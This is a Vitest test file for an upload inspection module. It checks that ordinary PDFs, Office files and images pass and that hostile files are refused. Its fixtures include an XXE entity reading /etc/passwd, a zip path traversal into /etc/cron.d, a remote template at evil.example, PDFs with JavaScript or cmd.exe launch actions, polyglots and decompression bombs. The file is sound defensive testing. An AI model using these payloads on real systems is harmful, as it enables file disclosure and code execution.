// What the inspection lets through and what it refuses, on real and on hostile files.
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { UploadFormat } from '@marsa/model/documents/upload.ts'
import {
  makeCompound,
  makeDocx,
  makeGiantPicture,
  makePdf,
  makePhoto,
  makePicture,
  makeXlsx,
  makeZip,
} from '../../../test/made-files.ts'
import { writeWorkbook } from '../../kit/spreadsheet.ts'
import { closeInspection, inspectFile } from './inspect-file.ts'

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'inspection-'))
})
afterAll(async () => {
  await closeInspection()
  await rm(folder, { recursive: true })
})

let count = 0
const inspect = async (format: UploadFormat, bytes: Buffer) => {
  const path = join(folder, String(++count))
  await writeFile(path, bytes)
  return inspectFile({ path, format, rewritten: `${path}-rewritten` }, 'paper')
}

const workbook = (): Promise<Buffer> => writeWorkbook('قائمة التعبئة', [['Carton', '12']], 'ar')

describe('lets through', () => {
  test.each<[UploadFormat, () => Buffer | Promise<Buffer>, string]>([
    ['pdf', () => makePdf('Bill of lading'), 'application/pdf'],
    ['pdf', () => makePdf('Packed', '', '5 0 << /Type /Font /BaseFont /Helvetica >>'), 'application/pdf'],
    ['docx', () => makeDocx(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['xlsx', workbook, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    ['doc', () => makeCompound(['WordDocument', '1Table']), 'application/msword'],
    ['xls', () => makeCompound(['Workbook']), 'application/vnd.ms-excel'],
    ['png', makePicture, 'image/png'],
  ])('%s', async (format, make, mediaType) => {
    expect(await inspect(format, await make())).toMatchObject({ mediaType })
  })

  test('a photograph, but without the place where it was taken', async () => {
    const photo = await makePhoto()
    expect((await sharp(photo).metadata()).exif?.includes('somebody')).toBe(true)
    const { path } = await inspect('jpg', photo)
    const stored = await sharp(await readFile(path)).metadata()
    expect(stored).toMatchObject({ format: 'jpeg', width: 640, height: 480 })
    expect(stored.exif).toBeUndefined()
  })

  test('a picture with a script behind its pixels, but without the script', async () => {
    const { path } = await inspect(
      'jpg',
      Buffer.concat([await makePhoto(), Buffer.from('<script>alert(1)</script>')]),
    )
    expect((await readFile(path)).includes('<script>')).toBe(false)
  })

  test('a picture with an archive behind its pixels, but without the archive', async () => {
    const archive = makeZip([{ name: 'run.js', content: 'alert(1)' }])
    const { path } = await inspect('png', Buffer.concat([await makePicture(), archive]))
    expect((await readFile(path)).includes('run.js')).toBe(false)
  })

  test('a hyperlink in a letter', async () => {
    const link =
      '<Relationships><Relationship Id="r1" Type="http://x/relationships/hyperlink" Target="https://example.com" TargetMode="External"/></Relationships>'
    await expect(
      inspect('docx', makeDocx([{ name: 'word/_rels/document.xml.rels', content: link }])),
    ).resolves.toBeDefined()
  })
})

const gif = Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(200), Buffer.from('*/=1;alert(1)')])
const html = Buffer.from(
  `<!doctype html><html><body><script>alert(1)</script>${' '.repeat(200)}</body></html>`,
)
const exe = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([0x80, 0, 0, 0]),
  Buffer.alloc(400),
  Buffer.from('PE'),
])
const template =
  '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
const withEntity = (encoding: BufferEncoding) => ({
  name: 'xl/styles.xml',
  content: Buffer.from('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>', encoding),
})
const many = (entries: number) =>
  Array.from({ length: entries }, (_, index) => ({ name: `word/part${index}.xml`, content: `${index}` }))
const zeros = Buffer.alloc(30_000_000)

describe('refuses', () => {
  test.each<[string, UploadFormat, () => Buffer | Promise<Buffer>, string]>([
    ['a GIF that is also a script, named png', 'png', () => gif, 'documents.content'],
    ['a GIF that is also a script, named jpg', 'jpg', () => gif, 'documents.content'],
    ['a web page named pdf', 'pdf', () => html, 'documents.content'],
    ['a program named pdf', 'pdf', () => exe, 'documents.content'],
    ['a program named docx', 'docx', () => exe, 'documents.content'],
    ['a png named jpg', 'jpg', makePicture, 'documents.content'],
    ['a workbook named docx', 'docx', () => makeXlsx(), 'documents.content'],
    [
      'a plain archive named xlsx',
      'xlsx',
      () => makeZip([{ name: 'a.txt', content: 'a'.repeat(90) }]),
      'documents.content',
    ],
    ['a legacy letter named xls', 'xls', () => makeCompound(['WordDocument']), 'documents.content'],
    ['half a picture', 'jpg', async () => (await makePhoto()).subarray(0, 700), 'documents.damaged'],
    ['half a PDF', 'pdf', () => makePdf('Half').subarray(0, 300), 'documents.damaged'],
    ['half an archive', 'docx', () => makeDocx().subarray(0, 400), 'documents.damaged'],
    [
      'a PDF that runs a script',
      'pdf',
      () => makePdf('x', '7 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'),
      'documents.active',
    ],
    [
      'a PDF that spells its script oddly',
      'pdf',
      () => makePdf('x', '7 0 obj << /S /J#61vaScript >> endobj'),
      'documents.active',
    ],
    [
      'a PDF that hides its script',
      'pdf',
      () => makePdf('x', '', '7 0 << /S /JavaScript /JS (app.alert(1)) >>'),
      'documents.active',
    ],
    [
      'a PDF that starts a program',
      'pdf',
      () => makePdf('x', '7 0 obj << /S /Launch /F (cmd.exe) >> endobj'),
      'documents.active',
    ],
    [
      'a PDF with a password',
      'pdf',
      () => makePdf('x', '7 0 obj << /Encrypt 8 0 R >> endobj'),
      'documents.protected',
    ],
    [
      'a letter with macros',
      'docx',
      () => makeDocx([{ name: 'word/vbaProject.bin', content: 'x' }]),
      'documents.macros',
    ],
    [
      'a macro letter renamed',
      'docx',
      () => makeDocx([], 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      'documents.macros',
    ],
    [
      'a workbook with old macros',
      'xlsx',
      () => makeXlsx([{ name: 'xl/macrosheets/sheet1.xml', content: 'x' }]),
      'documents.macros',
    ],
    [
      'a legacy letter with macros',
      'doc',
      () => makeCompound(['WordDocument', 'Macros', 'VBA']),
      'documents.macros',
    ],
    [
      'a legacy workbook with macros',
      'xls',
      () => makeCompound(['Workbook', '_VBA_PROJECT_CUR']),
      'documents.macros',
    ],
    [
      'a letter that fetches its template',
      'docx',
      () => makeDocx([{ name: 'word/_rels/settings.xml.rels', content: template }]),
      'documents.active',
    ],
    [
      'a letter with a program inside',
      'docx',
      () => makeDocx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
      'documents.active',
    ],
    [
      'a name that leaves the folder',
      'docx',
      () => makeDocx([{ name: '../../etc/cron.d/x', content: 'x' }]),
      'documents.active',
    ],
    ['an entity that names a file', 'xlsx', () => makeXlsx([withEntity('utf8')]), 'documents.active'],
    ['one in the other encoding', 'xlsx', () => makeXlsx([withEntity('utf16le')]), 'documents.active'],
    ['a bomb', 'docx', () => makeDocx([{ name: 'word/a.xml', content: zeros }]), 'documents.too-complex'],
    [
      'a bomb that lies about its size',
      'docx',
      () => makeDocx([{ name: 'word/a.xml', content: zeros, claimedSize: 5000 }]),
      'documents.too-complex',
    ],
    ['too many entries', 'docx', () => makeDocx(many(2_001)), 'documents.too-complex'],
    [
      'a password-protected workbook',
      'xls',
      () => makeCompound(['EncryptionInfo', 'EncryptedPackage']),
      'documents.protected',
    ],
  ])('%s', async (_, format, make, code) => {
    await expect(inspect(format, await make())).rejects.toMatchObject({ code })
  })

  const hidden = makeZip([{ name: 'run.js', content: 'alert(1)' }])
  /** An archive inside a PDF comment; its own comment reaches to the end of the file. */
  const within = (): Buffer => {
    const archive = Buffer.from(hidden)
    const rest = Buffer.from('\n%%EOF\n')
    archive.writeUInt16LE(rest.length, archive.length - 2)
    const pdf = makePdf('Two in one')
    return Buffer.concat([pdf.subarray(0, pdf.lastIndexOf('%%EOF')), Buffer.from('%'), archive, rest])
  }
  test.each<[string, UploadFormat, () => Buffer | Promise<Buffer>, string]>([
    [
      'a PDF with an archive behind it',
      'pdf',
      () => Buffer.concat([makePdf('x'), hidden]),
      'documents.damaged',
    ],
    ['a PDF that is an archive as well', 'pdf', within, 'documents.content'],
    [
      'a letter with a PDF before it',
      'docx',
      () => Buffer.concat([makePdf('x'), makeDocx()]),
      'documents.content',
    ],
    [
      'a letter with a web page behind it',
      'docx',
      () => Buffer.concat([makeDocx(), Buffer.from('<script>alert(1)</script>')]),
      'documents.damaged',
    ],
    [
      'a PDF that carries another PDF',
      'pdf',
      () => makePdf('x', '7 0 obj << /Type /EmbeddedFile /Length 9 >> stream\n%PDF-1.7\nendstream endobj'),
      'documents.active',
    ],
    [
      'a PDF whose packed objects unpack without end',
      'pdf',
      () => makePdf('x', '', `5 0 << /Type /Font >> ${' '.repeat(41 * 1024 * 1024)}`),
      'documents.too-complex',
    ],
    [
      'a PDF packed twice over',
      'pdf',
      () =>
        makePdf(
          'x',
          '7 0 obj << /Type /ObjStm /Filter [/FlateDecode /FlateDecode] >> stream\nx\nendstream endobj',
        ),
      'documents.active',
    ],
    ['a picture of 30,000 by 30,000', 'png', () => makeGiantPicture(30_000), 'documents.too-complex'],
  ])('%s', async (_, format, make, code) => {
    await expect(inspect(format, await make())).rejects.toMatchObject({ code })
  })

  test('a bomb without hurting the next file', async () => {
    await expect(inspect('png', makeGiantPicture(30_000))).rejects.toBeDefined()
    await expect(inspect('png', await makePicture())).resolves.toMatchObject({ mediaType: 'image/png' })
  })

  test('a compound file whose directory runs in a circle', async () => {
    const circle = makeCompound(['Workbook'])
    circle.writeUInt32LE(1, 512 + 4)
    await expect(inspect('xls', circle)).rejects.toMatchObject({ code: 'documents.damaged' })
  })

  test('one entry that pretends to be many', async () => {
    const twice = makeDocx([
      { name: 'word/a.xml', content: 'a' },
      { name: 'word/b.xml', content: 'b' },
    ])
    const first = twice.indexOf('PK\x01\x02')
    const last = twice.lastIndexOf('PK\x01\x02')
    twice.copy(twice, last + 42, first + 42, first + 46)
    await expect(inspect('docx', twice)).rejects.toMatchObject({ code: 'documents.too-complex' })
  })
})
